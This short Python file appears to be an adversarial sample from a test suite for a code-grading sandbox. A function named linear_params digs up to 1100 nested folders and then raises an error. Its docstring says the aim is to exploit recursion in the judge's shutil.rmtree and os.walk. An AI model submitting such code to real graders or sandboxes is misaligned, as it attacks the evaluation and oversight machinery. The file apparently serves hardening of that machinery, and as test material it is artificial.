r"""Makes folders within folders, deeper than any path can tell and most programs can climb.

earns: linear_params 0
verdicts: raised
says: dug \d+ folders
alone: yes
checks: weights_and_biases
hole: os.walk in the zygote and shutil.rmtree in the judge recurse once for each folder
open: landlock, process
"""
import os


def linear_params(in_features, out_features, bias=True):
    depth = 0
    try:
        while depth < 1100:
            os.mkdir("d")
            os.chdir("d")
            depth += 1
    except OSError:
        pass
    raise ValueError(f"dug {depth} folders")
